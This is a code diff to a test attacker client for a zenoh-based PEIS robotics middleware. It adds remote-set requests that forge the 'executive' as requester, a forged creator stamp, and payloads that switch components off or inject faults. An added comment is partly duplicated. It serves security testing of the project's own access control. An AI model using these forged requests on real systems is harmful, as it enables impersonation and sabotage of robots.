@@ -9,7 +9,8 @@ whatever credentials it is given (none, or a certificate of its own name):
 - delete:  deletes of the victim's tuples;
 - replay:  the victim's own samples, captured by subscribing, published again as they were;
 - reply:   a queryable on the victim's subtree answering every get with forged tuples;
-- set:     remote sets of the victim's keys (switching a component off, new params, fault tuples).
+- set:     remote sets of the victim's keys (switching a component off, new params, fault tuples),
+           unnamed and naming the executive as their requester.
 
 It declares its tokens, prints `tokens` and waits for `go` on standard input (the test starts
 the victim in between), waits to be linked to --peers PEIS, then attacks. It prints one JSON line with what it tried and what was accepted *as far as it can tell*
@@ -39,6 +40,13 @@ def meta(seq, epoch, mimetype="text/plain"):
     return struct.pack("<BBQQQ", 1, 8, seq, time.time_ns(), epoch) + bytes([len(mime)]) + mime
 
 
+def stamped(creator, mimetype="text/plain"):
+    """A remote-set request's metadata whose creator stamp (flag bit 4) names `creator`."""
+    mime, name = mimetype.encode("ascii"), creator.encode("ascii")
+    return (struct.pack("<BBQQ", 1, 16, 0, time.time_ns()) + bytes([len(mime)]) + mime
+            + bytes([len(name)]) + name)
+
+
 def session(args):
     conf = zenoh.Config()
     conf.insert_json5("connect/endpoints", json.dumps(args.connect))
@@ -63,6 +71,7 @@ def main():
     parser.add_argument("--ca")
     parser.add_argument("--cert")
     parser.add_argument("--key")
+    parser.add_argument("--name", default="mallory", help="the name in our certificate")
     parser.add_argument("--hold", type=float, default=600.0)
     parser.add_argument("--peers", type=int, default=1, help="wait to be linked to this many")
     args = parser.parse_args()
@@ -134,15 +143,23 @@ def main():
 
     accepted = 0
     request = meta(0, 0)
-    keys = [f"components/ca1/reqState", "ca1/params", "ca1/fault", "tr1/mi-image"]
-    values = ["off", "(cameras hsm ca1)", "stall", "(meta mallory x)"]
+    # Unnamed (the open mode's form), and naming the executive as the requester (a forged claim).
+    # Unnamed (the open mode's form), naming the executive as the requester (a forged claim), and
+    # in our own name, where we may be granted a key, with a creator stamp naming the executive.
+    keys = ["@set/components/ca1/reqState", "@set/ca1/params", "@set/ca1/fault",
+            "@set/tr1/mi-image", "@by/executive/components/ca1/reqState",
+            "@by/executive/ca1/params", f"@by/{args.name}/ca1/fault"]
+    values = ["off", "(cameras hsm ca1)", "stall", "(meta mallory x)", "off", "(cameras hsm x)",
+              "stall"]
+    forged_stamp = stamped("executive")
     sent = 0
     for batch in range(0, n, 100):
         pending = []
         for i in range(batch, min(n, batch + 100)):
             k = i % len(keys)
-            pending.append(s.get(f"peis/{victim}/@set/{keys[k]}", payload=values[k],
-                                 attachment=request, timeout=1.0))
+            attachment = forged_stamp if keys[k].startswith("@by/" + args.name) else request
+            pending.append(s.get(f"peis/{victim}/{keys[k]}", payload=values[k],
+                                 attachment=attachment, timeout=1.0))
             sent += 1
         for replies in pending:
             for reply in replies:
